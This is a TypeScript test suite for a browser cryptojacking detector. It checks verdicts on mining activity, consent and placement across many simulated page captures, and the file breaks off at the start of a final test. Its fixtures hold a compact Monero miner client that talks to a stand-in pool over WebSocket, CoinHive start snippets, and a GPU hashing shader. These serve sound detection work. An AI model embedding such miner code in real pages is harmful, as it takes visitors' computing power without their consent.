import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { ArtifactByKind, ArtifactKind, CpuArtifact, SocketFrame } from '#model/artifact.ts'
import { artifactKinds } from '#model/artifact.ts'
import { captureOf, type CaptureManifest, type Lane, type PageReached } from '#model/capture.ts'
import { type Body, complete, type Collection, notCollected } from '#model/collection.ts'
import type { Mining, Status } from '#model/finding.ts'
import { memoryBlobs } from '#model/memory-blobs.ts'
import { keccakData, maskings, sboxData, scratchpadModule } from '#derive/wasm/testing/shapes.ts'
import { assemble } from '#derive/wasm/testing/text.ts'
import { createJudge } from '#judge/judge.ts'
import { answerOf, exitCodeOf } from '#model/answer.ts'
import { loadSignatures } from '#judge/signatures.ts'
import { conditionsWith } from '../../test/conditions.ts'

const blobs = memoryBlobs()
const judge = createJudge({
  blobs,
  signatures: await loadSignatures(),
  limits: { children: 1, heapMb: 512, timeMs: 20_000, timeMsPerMb: 1_000 },
})
after(() => judge.close())

const page = 'https://shop.example/'
const account = 'aB3dE5gH7jK9mN1pQ3sT5vW7xY9zA1cE'

async function body(text: string | Uint8Array): Promise<Body> {
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text
  return { status: 'stored', digest: await blobs.put(bytes), size: bytes.length }
}

type Made = { [K in ArtifactKind]?: ArtifactByKind[K][] | Collection<ArtifactByKind[K]> }
interface Situation {
  lane?: Lane
  reached?: PageReached
  artifacts: Made
  error?: CaptureManifest['error']
}

function manifestOf(situation: Situation): CaptureManifest {
  const lane = situation.lane ?? 'browser'
  const artifacts: Record<string, Collection<unknown>> = {}
  for (const kind of artifactKinds) {
    const given = situation.artifacts[kind]
    artifacts[kind] = Array.isArray(given)
      ? complete<unknown>(given)
      : (given ?? (lane === 'browser' ? complete([]) : notCollected('not in a file')))
  }
  return {
    schema: 'assay.capture',
    schemaVersion: 1,
    visitId: 'visit',
    seed: { url: page, tags: [], scope: 'page' },
    url: page,
    finalUrl: page,
    reached: { page: situation.reached ?? 'content', httpStatus: 200, reasons: [] },
    startedAt: '2026-01-01T00:00:00.000Z',
    endedAt: '2026-01-01T00:00:10.000Z',
    clockOffsetMs: null,
    conditions: conditionsWith({ lane }),
    actions: [],
    ended: { reason: 'dwell', detail: '' },
    error: situation.error ?? null,
    artifacts,
  }
}

const core = `'use strict'; var socket = new WebSocket('wss://relay.example/'); var n = navigator.hardwareConcurrency, threads = [];
socket.onopen = function () { socket.send(JSON.stringify({ type: 'auth', params: { site_key: '${account}', type: 'anonymous' } })) };
socket.onmessage = function (m) { var job = JSON.parse(m.data).params; for (var i = 0; i < n; i++) threads[i].postMessage({ job_id: job.job_id, blob: job.blob, target: job.target, throttle: 0.3 }) };
for (var i = 0; i < n; i++) { threads[i] = new Worker('/w.js'); threads[i].onmessage = function (e) { hashesPerSecond += e.data.hashes; socket.send(JSON.stringify({ type: 'submit', params: { job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } })) } }`

const none = { status: 'none' } as const
function request(
  id: string,
  url: string,
  resourceType: string,
  content: Body,
  more: Partial<ArtifactByKind['request']> = {},
): ArtifactByKind['request'] {
  return {
    id,
    targetId: 'target-1',
    frameId: 'frame-1',
    url,
    method: 'GET',
    resourceType,
    requestHeaders: [],
    requestBody: none,
    initiator: { type: 'parser', url: page },
    startedAtMs: 100,
    body: content,
    response: {
      status: 200,
      statusText: 'OK',
      headers: [],
      mimeType: resourceType === 'document' ? 'text/html' : resourceType === 'image' ? 'image/png' : 'text/javascript',
      protocol: 'h2',
      remoteAddress: null,
      fromCache: false,
      fromServiceWorker: false,
    },
    ...more,
  }
}
async function script(
  id: string,
  url: string,
  source: ArtifactByKind['script']['source'],
  text: string,
  more: Partial<ArtifactByKind['script']> = {},
): Promise<ArtifactByKind['script']> {
  return {
    id,
    targetId: 'target-1',
    frameId: 'frame-1',
    url,
    source,
    isModule: false,
    startLine: 0,
    startColumn: 0,
    body: await body(text),
    parsedAtMs: 200,
    ...more,
  }
}
const frame1: ArtifactByKind['frame'] = { id: 'frame-1', targetId: 'target-1', url: page, source: 'page', origin: page }
const blob =
  '0707f7a4f0d605b303260816ba3f10902e1a145ac5fad3aa3af6ea44c11869dc4f853f002b2eea0000000077b206a02ca5b1d4ce6bbfdf0acac38bded34d2dcdeef95cd20cefc12f61d56109'
const said = (atMs: number, direction: SocketFrame['direction'], value: unknown): SocketFrame => ({
  atMs,
  direction,
  opcode: 1,
  size: 80,
  text: JSON.stringify(value),
})
const login = (atMs: number): SocketFrame => said(atMs, 'sent', { type: 'auth', params: { site_key: account, type: 'anonymous' } })
const job = (atMs: number): SocketFrame => said(atMs, 'received', { type: 'job', params: { job_id: '1', blob, target: 'ffffff00' } })
const share = (atMs: number): SocketFrame =>
  said(atMs, 'sent', { type: 'submit', params: { job_id: '1', nonce: '0a0b0c0d', result: 'ab'.repeat(32) } })
function socket(frames: SocketFrame[], scriptId: string, more: Partial<ArtifactByKind['websocket']> = {}): ArtifactByKind['websocket'] {
  return {
    id: 'ws-1',
    targetId: 'target-1',
    frameId: 'frame-1',
    url: 'wss://relay.example/',
    initiator: { type: 'script', stack: [{ functionName: '', url: '', line: 0, column: 0, scriptId }] },
    openedAtMs: 500,
    handshake: { status: 101, requestHeaders: [], responseHeaders: [] },
    frames,
    sentCount: 2,
    receivedCount: 1,
    framesDropped: 0,
    ...more,
  }
}
function cpu(id: string, busy: number, thread: CpuArtifact['thread'] = 'worker', fromMs = 1_000): CpuArtifact {
  return {
    id,
    targetId: `target-${id}`,
    thread,
    url: 'https://shop.example/w.js',
    samplingIntervalUs: 10_000,
    observedMs: 8_000,
    windows: Array.from({ length: 8 }, (_, at) => ({ fromMs: at * 1_000, toMs: at * 1_000 + 1_000, busy: at * 1_000 < fromMs ? 0 : busy })),
    busy,
    hottest: [{ functionName: 'hash', url: '', line: 0, share: 0.9, wasm: true }],
  }
}
const dialog = (
  answer: ArtifactByKind['dialog']['answer'],
  openedAtMs = 300,
  about: 'mining' | 'cookies' = 'mining',
): ArtifactByKind['dialog'] => ({
  id: 'dialog-1',
  targetId: 'target-1',
  type: 'overlay',
  text: about === 'mining' ? 'May we mine Monero with your CPU?' : 'We use cookies',
  choices: ['Yes', 'No'],
  about,
  openedAtMs,
  answer,
})

const documentOf = async (html: string) =>
  request('req-1', page, 'document', await body(`<!doctype html><title>Shop</title><h1>Shop</h1><p>Welcome.</p>${html}`))
/** The page, its miner inline, and what was seen of it. */
async function inline(more: Made = {}): Promise<Made> {
  return {
    frame: [frame1],
    request: [await documentOf(`<script>${core}</script>`)],
    script: [await script('script-1', page, 'inline', core)],
    ...more,
  }
}
const hashing: Made = {
  websocket: [socket([login(600), job(700), share(3_000)], 'script-1')],
  cpu: [cpu('cpu-1', 0.97), cpu('cpu-2', 0.95)],
}
const active = (placement: Mining['placement'], consent: Mining['consent'] = 'not-asked'): Expected => ({
  status: 'active',
  activity: 'hashing',
  consent,
  placement,
})

type Expected = Partial<Mining> & { status: Status; kind?: string }
const wasmOf = async (url: string): Promise<ArtifactByKind['wasm']> => {
  const text = scratchpadModule({ masking: maskings['shifts'] ?? '', data: [keccakData(0), sboxData(4096)] })
  return { id: 'wasm-1', targetId: 'target-1', url, body: await body(await assemble(text)), parsedAtMs: 0 }
}
const thirdScript = (): Promise<ArtifactByKind['script']> => script('script-2', 'https://cdn.tags.example/lib.js', 'external', core)

const situations: Record<string, { make: () => Promise<Situation>; is: Expected; exit?: number }> = {
  'ordinary page': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('<script>document.title = "x"</script>')],
        script: [await script('script-1', page, 'inline', 'document.title = "x"')],
        cpu: [cpu('cpu-1', 0.3, 'page')],
      },
    }),
    is: { status: 'none', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
  },
  'inline miner, pool answers, threads hash': { make: async () => ({ artifacts: await inline(hashing) }), is: active('page') },
  'the same from the site’s own script file': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('<script src="/a.js"></script>'), request('req-2', `${page}a.js`, 'script', await body(core))],
        script: [await script('script-1', `${page}a.js`, 'external', core)],
        ...hashing,
      },
    }),
    is: active('own-file'),
  },
  'brought in by a third party’s library': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [
          await documentOf('<script src="https://cdn.tags.example/lib.js"></script>'),
          request('req-2', 'https://cdn.tags.example/lib.js', 'script', await body(core)),
        ],
        script: [await thirdScript()],
        cpu: [cpu('cpu-1', 0.97)],
        websocket: [socket([login(600), job(700), share(3_000)], 'script-2')],
      },
    }),
    is: active('third-party'),
  },
  'injected inline by a tag manager': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        script: [
          await script('script-2', 'https://tags.example/gtm.js', 'external', 'inject()'),
          await script('script-1', page, 'inline', core, {
            initiator: {
              type: 'script',
              stack: [{ functionName: '', url: 'https://tags.example/gtm.js', line: 0, column: 0, scriptId: 'script-2' }],
            },
          }),
        ],
        ...hashing,
      },
    }),
    is: active('third-party'),
  },
  'in an ad’s frame': {
    make: async () => ({
      artifacts: {
        frame: [
          frame1,
          {
            id: 'frame-2',
            targetId: 'target-2',
            parentFrameId: 'frame-1',
            url: 'https://ads.example/slot',
            source: 'src',
            origin: 'https://ads.example',
            ad: 'the browser’s own tag',
          },
        ],
        request: [await documentOf('<iframe src="https://ads.example/slot"></iframe>')],
        script: [await script('script-1', 'https://ads.example/slot', 'inline', core, { frameId: 'frame-2' })],
        websocket: [socket([login(600), job(700), share(3_000)], 'script-1', { frameId: 'frame-2' })],
        cpu: [cpu('cpu-1', 0.97)],
      },
    }),
    is: active('ad'),
  },
  'one thread at 30 %': { make: async () => ({ artifacts: await inline({ ...hashing, cpu: [cpu('cpu-1', 0.3)] }) }), is: active('page') },
  'pool reached, login sent, no answer, no threads': {
    make: async () => ({ artifacts: await inline({ websocket: [socket([login(600)], 'script-1')], cpu: [] }) }),
    is: { status: 'active', activity: 'pool-contact', consent: 'not-asked', placement: 'page' },
  },
  'pool refuses the connection, core delivered, no threads': {
    make: async () => ({ artifacts: await inline({ websocket: [{ ...socket([], 'script-1'), error: 'refused' }] }) }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked', placement: 'page' },
  },
  'starts after the visit’s end': {
    make: async () => ({ artifacts: await inline({}) }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'pool over UDP, threads hash': {
    make: async () => ({
      artifacts: await inline({
        cpu: [cpu('cpu-1', 0.9)],
        transport: [
          {
            id: 'transport-1',
            targetId: 'target-1',
            type: 'webrtc',
            url: 'turn:pool.example',
            openedAtMs: 400,
            status: 'attempted',
            messages: [],
            messagesDropped: 0,
            servers: ['turn:pool.example'],
          },
        ],
      }),
    }),
    is: active('page'),
  },
  'pool over UDP, no threads': {
    make: async () => ({
      artifacts: await inline({
        transport: [
          {
            id: 'transport-1',
            targetId: 'target-1',
            type: 'webtransport',
            url: 'https://pool.example/',
            openedAtMs: 400,
            status: 'failed',
            messages: [],
            messagesDropped: 0,
          },
        ],
      }),
    }),
    is: { status: 'loaded', activity: 'delivered' },
  },
  'dialog of mining, not answered, nothing runs': {
    make: async () => ({ artifacts: await inline({ dialog: [dialog({ choice: 'ignored' })] }) }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
  },
  'dialog of mining, declined, nothing runs': {
    make: async () => ({ artifacts: await inline({ dialog: [dialog({ choice: 'rejected', atMs: 900 })] }) }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
  },
  'dialog accepted, then hashing': {
    make: async () => ({
      artifacts: await inline({
        websocket: [socket([login(2_600), job(2_700), share(4_000)], 'script-1')],
        cpu: [cpu('cpu-1', 0.9, 'worker', 3_000)],
        dialog: [dialog({ choice: 'accepted', atMs: 2_500 })],
      }),
    }),
    is: { status: 'opt-in', activity: 'hashing', consent: 'asked-first' },
  },
  'hashing while the dialog is open': {
    make: async () => ({ artifacts: await inline({ ...hashing, dialog: [dialog({ choice: 'ignored' })] }) }),
    is: active('page', 'asked-late'),
  },
  'hashing before the dialog is accepted': {
    make: async () => ({ artifacts: await inline({ ...hashing, dialog: [dialog({ choice: 'accepted', atMs: 5_000 })] }) }),
    is: active('page', 'asked-late'),
  },
  'hashing after "no"': {
    make: async () => ({
      artifacts: await inline({
        websocket: [socket([login(2_600), job(2_700), share(4_000)], 'script-1')],
        cpu: [cpu('cpu-1', 0.9, 'worker', 3_000)],
        dialog: [dialog({ choice: 'rejected', atMs: 1_500 })],
      }),
    }),
    is: active('page', 'refused-ignored'),
  },
  'a captcha that mines, and said so before': {
    make: async () => ({
      artifacts: await inline({
        websocket: [socket([login(2_600), job(2_700), share(4_000)], 'script-1')],
        cpu: [cpu('cpu-1', 0.9, 'worker', 3_000)],
        dialog: [
          {
            ...dialog({ choice: 'accepted', atMs: 2_500 }),
            text: 'Verify me. While you wait, your browser mines Monero for this site instead of showing pictures.',
            choices: ['Verify me'],
          },
        ],
      }),
    }),
    is: { status: 'opt-in', activity: 'hashing', consent: 'asked-first', kind: 'mining' },
  },
  'a captcha that mines, and did not say so': {
    make: async () => ({
      artifacts: {
        ...(await inline({
          websocket: [socket([login(2_600), job(2_700), share(4_000)], 'script-1')],
          cpu: [cpu('cpu-1', 0.9, 'worker', 3_000)],
        })),
        request: [await documentOf(`<div class="captcha"><button>Verify me</button></div><script>${core}</script>`)],
      },
    }),
    is: { ...active('page'), kind: 'mining' },
  },
  'cookie banner only, miner runs': {
    make: async () => ({ artifacts: await inline({ ...hashing, dialog: [dialog({ choice: 'accepted', atMs: 400 }, 300, 'cookies')] }) }),
    is: active('page'),
  },
  'archive: a known miner’s script is referred to and started, bytes absent': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous("${account}"); m.start()</script>`,
          ),
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked', placement: 'third-party' },
  },
  'archive: AuthedMine': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://authedmine.com/lib/authedmine.min.js"></script><script>new CoinHive.Anonymous("${account}").start()</script>`,
          ),
        ],
      },
    }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first', placement: 'third-party' },
  },
  'archive: a start behind a button that names mining': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous("${account}"); document.getElementById("b").addEventListener("click", function () { m.start() })</script><button id="b">Start mining for us</button>`,
          ),
        ],
      },
    }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first', placement: 'third-party' },
  },
  'archive: a start in a function that only a button calls': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous("${account}"); function go() { m.start() }</script><button onclick="go()">Start mining for us</button>`,
          ),
        ],
      },
    }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
  },
  'archive: a start two functions away from the button': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function really() { new CoinHive.Anonymous("${account}").start() } function go() { really() }</script><button onclick="go()">Start mining</button>`,
          ),
        ],
      },
    }),
    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
  },
  'archive: a start in a function that a button and the page call': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() } setTimeout(go, 5000)</script><button onclick="go()">Start mining for us</button>`,
          ),
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'archive: a start in a function that nobody is seen to call': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() }</script><button>Start mining for us</button>`,
          ),
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'archive: a start behind a button that does not name mining': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() }</script><button onclick="go()">Verify me</button>`,
          ),
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'archive: a start at any click on a page that names mining': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>document.addEventListener("click", function () { new CoinHive.Anonymous("${account}").start() })</script><button>What is mining?</button>`,
          ),
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'archive: library referred to, never started, no account': {
    make: async () => ({
      lane: 'archive',
      artifacts: { request: [await documentOf('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')] },
    }),
    is: { status: 'suspected', activity: 'none-seen', consent: 'unknown', placement: 'third-party' },
  },
  'archive: it has the beginning of the page’s document only': {
    make: async () => {
      const whole = await documentOf('<p>')
      if (whole.body.status !== 'stored') throw new Error('a stored document')
      return { lane: 'archive', artifacts: { request: [{ ...whole, body: { ...whole.body, status: 'truncated', totalSize: 9000 } }] } }
    },
    is: { status: 'inconclusive', activity: 'none-seen' },
  },
  'a lone script with a miner’s client': {
    make: async () => ({ lane: 'file', artifacts: { script: [await script('script-1', 'file.js', 'unknown', core)] } }),
    is: { status: 'loaded', activity: 'delivered', consent: 'unknown', placement: 'unknown' },
  },
  'a lone module with a mining core': {
    make: async () => ({ lane: 'file', artifacts: { wasm: [await wasmOf('file.wasm')] } }),
    is: { status: 'loaded', activity: 'delivered', consent: 'unknown', placement: 'unknown', kind: 'mining' },
  },
  'socket and busy workers, nothing recognised': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        websocket: [socket([said(600, 'sent', { a: 1 }), said(700, 'received', { b: 2 })], 'script-1')],
        cpu: [cpu('cpu-1', 0.96), cpu('cpu-2', 0.96)],
      },
    }),
    is: { status: 'suspected', activity: 'none-seen', consent: 'unknown' },
  },
  'busy workers without a socket': {
    make: async () => ({ artifacts: { frame: [frame1], request: [await documentOf('')], cpu: [cpu('cpu-1', 0.96), cpu('cpu-2', 0.96)] } }),
    is: { status: 'none', activity: 'none-seen' },
  },
  'miner quoted and commented out': {
    make: async () => ({
      lane: 'archive',
      artifacts: {
        request: [
          await documentOf(
            `<!-- <script src="https://coinhive.com/lib/coinhive.min.js"></script> --><pre><code>var m = new CoinHive.Anonymous("${account}"); m.start()</code></pre><textarea><script>new CoinHive.Anonymous("${account}").start()</script></textarea><script type="text/plain">new CoinHive.Anonymous("${account}").start()</script><template><script src="https://coinhive.com/lib/coinhive.min.js"></script></template>`,
          ),
        ],
      },
    }),
    is: { status: 'none', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
  },
  'proof-of-work captcha': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [
          await documentOf('<script src="https://cdn.example/altcha.min.js"></script><altcha-widget challengeurl="/c"></altcha-widget>'),
        ],
        cpu: [cpu('cpu-1', 0.96)],
      },
    }),
    is: { status: 'none', activity: 'none-seen', kind: 'proof-of-work' },
  },
  'a gate of proof of work that was passed': {
    make: async () => {
      const challenge = '<script id="anubis_challenge" type="application/json">{"challenge":"ab","rules":{"difficulty":4}}</script>'
      const gate = await body(
        `<!doctype html><title>Making sure you’re not a bot!</title>${challenge}<script src="/.within.website/x/cmd/anubis/static/js/main.mjs"></script>`,
      )
      return {
        artifacts: {
          frame: [frame1],
          request: [request('req-1', page, 'document', gate), { ...(await documentOf('')), id: 'req-2' }],
          cpu: [cpu('cpu-1', 0.96), cpu('cpu-2', 0.96)],
        },
      }
    },
    is: { status: 'none', activity: 'none-seen', consent: 'unknown', kind: 'proof-of-work' },
  },
  'a hash library': {
    make: async () => ({
      artifacts: { frame: [frame1], request: [await documentOf('<script src="https://cdn.example/crypto-js.min.js"></script>')] },
    }),
    is: { status: 'none', kind: 'crypto-library' },
  },
  'a wallet': {
    make: async () => ({ artifacts: { frame: [frame1], request: [await documentOf('<script src="/monero_web_worker.js"></script>')] } }),
    is: { status: 'none', kind: 'wallet' },
  },
  'a thread started, and nothing of its code was collected': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        worker: [
          { id: 'worker-1', targetId: 'target-2', parentTargetId: 'target-1', type: 'service', url: `${page}sw.js`, startedAtMs: 20_000 },
        ],
      },
    }),
    is: { status: 'inconclusive', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
  },
  'a thread that ended before it told its code, which its response holds': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf(''), request('req-9', `${page}once.js`, 'script', await body('postMessage(location.href)'))],
        worker: [
          { id: 'worker-1', targetId: 'target-2', parentTargetId: 'target-1', type: 'dedicated', url: `${page}once.js`, startedAtMs: 900 },
        ],
      },
    }),
    is: { status: 'none' },
  },
  'a thread whose file is not there': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [
          await documentOf(''),
          request('req-9', `${page}sw.js`, 'script', none, {
            response: {
              status: 404,
              statusText: 'Not Found',
              headers: [],
              mimeType: 'text/html',
              protocol: 'h2',
              remoteAddress: null,
              fromCache: false,
              fromServiceWorker: false,
            },
          }),
        ],
        worker: [
          { id: 'worker-1', targetId: 'target-2', parentTargetId: 'target-1', type: 'dedicated', url: `${page}sw.js`, startedAtMs: 900 },
        ],
      },
    }),
    is: { status: 'none' },
  },
  'a worker’s module could not be collected': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        wasm: [
          { id: 'wasm-1', targetId: 'target-2', url: 'wasm://wasm/1', body: { status: 'lost', reason: 'the worker ended' }, parsedAtMs: 1 },
        ],
      },
    }),
    is: { status: 'inconclusive', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
  },
  'sockets could not be collected': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        websocket: { status: 'failed', items: [], error: { code: 'PROTOCOL_ERROR', message: 'gone' } },
      },
    }),
    is: { status: 'inconclusive' },
  },
  'an image’s body was lost': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('<img src="/a.png">'), request('req-2', `${page}a.png`, 'image', { status: 'lost', reason: 'evicted' })],
      },
    }),
    is: { status: 'none' },
  },
  'bot gate not passed': {
    make: async () => ({ reached: 'gate', artifacts: { frame: [frame1], request: [await documentOf('')], cpu: [cpu('cpu-1', 0.9)] } }),
    is: { status: 'not-observed', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
  },
  'login wall': {
    make: async () => ({ reached: 'login', artifacts: await inline(hashing) }),
    is: { status: 'not-observed', activity: 'none-seen' },
  },
  'parked page': {
    make: async () => ({ reached: 'parked', artifacts: { frame: [frame1], request: [await documentOf('')] } }),
    is: { status: 'none' },
  },
  'the name does not resolve': {
    make: async () => ({ reached: 'error', error: { code: 'DNS_FAILED', message: 'no such name' }, artifacts: {} }),
    is: { status: 'not-observed' },
  },
  'TLS fails': {
    make: async () => ({ reached: 'error', error: { code: 'TLS_FAILED', message: 'net::ERR_CERT_DATE_INVALID' }, artifacts: {} }),
    is: { status: 'not-observed', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
    exit: 3,
  },
  'the browser crashed twice': {
    make: async () => ({
      reached: 'error',
      error: { code: 'TARGET_CRASHED', message: 'the browser ended' },
      // What came before the crash proves nothing of what the page would have done.
      artifacts: { frame: [frame1], request: [await documentOf('')], cpu: [cpu('cpu-1', 0.9)] },
    }),
    is: { status: 'not-observed', activity: 'none-seen', consent: 'unknown', placement: 'unknown' },
    exit: 3,
  },
  'http lane, a miner is referred to': {
    make: async () => ({
      lane: 'http',
      artifacts: { request: [await documentOf('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')] },
    }),
    is: { status: 'hint' },
  },
  'http lane, ordinary page': {
    make: async () => ({ lane: 'http', artifacts: { request: [await documentOf('')] } }),
    is: { status: 'no-hint' },
  },
  'a GPU shader with a hash core and GPU time': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        gpu: [
          { id: 'gpu-1', targetId: 'target-1', frameId: 'frame-1', type: 'shader', source: await body(shader), atMs: 1 },
          { id: 'gpu-2', targetId: 'target-1', type: 'process-time', atMs: 8_000, amount: 6_000 },
          { id: 'gpu-3', targetId: 'target-1', frameId: 'frame-1', type: 'dispatch', atMs: 2, amount: 4 },
        ],
      },
    }),
    is: { status: 'active', activity: 'hashing', consent: 'not-asked' },
  },
  'a GPU shader with a hash core that was set to nothing, while another visit’s shader worked': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        gpu: [
          { id: 'gpu-1', targetId: 'target-1', frameId: 'frame-1', type: 'shader', source: await body(shader), atMs: 1 },
          { id: 'gpu-2', targetId: 'target-1', type: 'process-time', atMs: 8_000, amount: 6_000 },
        ],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
  'a shader that searches by a hash that nobody knows, beside a pool': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        websocket: [socket([login(600), job(700)], 'script-1')],
        gpu: [
          { id: 'gpu-1', targetId: 'target-1', frameId: 'frame-1', type: 'shader', source: await body(unknownSearch), atMs: 800 },
          { id: 'gpu-2', targetId: 'target-1', frameId: 'frame-1', type: 'dispatch', atMs: 900, amount: 64 },
        ],
      },
    }),
    is: { status: 'active', activity: 'hashing', consent: 'not-asked' },
  },
  'the same shader where nobody speaks to a pool': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        gpu: [
          { id: 'gpu-1', targetId: 'target-1', frameId: 'frame-1', type: 'shader', source: await body(unknownSearch), atMs: 800 },
          { id: 'gpu-2', targetId: 'target-1', frameId: 'frame-1', type: 'dispatch', atMs: 900, amount: 64 },
        ],
      },
    }),
    is: { status: 'none', activity: 'none-seen', consent: 'unknown' },
  },
  'a GPU shader with a hash core, without GPU time': {
    make: async () => ({
      artifacts: {
        frame: [frame1],
        request: [await documentOf('')],
        gpu: [{ id: 'gpu-1', targetId: 'target-1', frameId: 'frame-1', type: 'shader', source: await body(shader), atMs: 1 }],
      },
    }),
    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
  },
}
const roundConstants = [
  0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be,
  0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa,
  0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85,
  0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
]
const shader = `const k = array<u32, ${roundConstants.length}>(${roundConstants.map((word) => `0x${word.toString(16)}u`).join(', ')});
@group(0) @binding(0) var<storage, read_write> found: array<u32>;
@compute @workgroup_size(64) fn main(@builtin(global_invocation_id) id: vec3<u32>) { let nonce = id.x; let digest = hash(nonce); if (digest < target) { found[0] = nonce; } }`

const unknownSearch = `@group(0) @binding(0) var<storage, read_write> out: array<u32>;
fn stir(x: u32) -> u32 { return (x << 7u) ^ (x >> 3u) * 747796405u; }
@compute @workgroup_size(64) fn main(@builtin(global_invocation_id) id: vec3<u32>) { let k = id.x; let d = stir(k); if (d < 4096u) { out[0] = k; } }`

for (const [name, { make, is, exit }] of Object.entries(situations)) {
  test(name, async () => {
    const observation = await judge.judge(captureOf(manifestOf(await make())))
    const { conclusion } = observation
    const seen = `${conclusion.rule}; ${observation.findings.map((finding) => `${finding.detector}/${finding.weight}: ${finding.title}`).join(' | ')}; blind ${observation.blindTo.map(({ reason }) => reason).join(' | ')}`
    assert.equal(conclusion.status, is.status, seen)
    if (exit !== undefined) assert.equal(exitCodeOf(answerOf(observation)), exit)
    for (const fact of ['activity', 'consent', 'placement'] as const)
      if (is[fact] !== undefined) assert.equal(conclusion.mining[fact], is[fact], `${fact}: ${seen}`)
    if (is.kind !== undefined)
      assert.ok(
        observation.findings.some(({ kind }) => kind === is.kind),
        seen,
      )
    assert.ok(observation.findings.filter(({ kind }) => kind === 'mining').length === 0 || conclusion.status !== 'none', seen)
    assert.ok(
      observation.findings.every((finding) => finding.evidence.length > 0),
      seen,
    )
    assert.ok(conclusion.sentence.length > 20 && !/undefined|null/.test(conclusion.sentence), conclusion.sentence)
  })
}

test('the chain leads from the page over the tag manager to the socket, and the account is told', async () => {
  const { conclusion } = await judge.judge(captureOf(manifestOf(await situations['injected inline by a tag manager']!.make())))
  assert.deepEqual(
    conclusion.chain.map(({ url }) => url),
    [page, 'https://tags.example/gtm.js', page, 'wss://relay.example/'],
  )
  assert.deepEqual(
    conclusion.accounts.map((paid) => paid.account),
    [account],
  )
})

test('where a third party’s script is what counts and could not be had, the chain ends in it and not in the page that starts it', async () => {
  const library = 'https://coinhive.com/lib/coinhive.min.js'
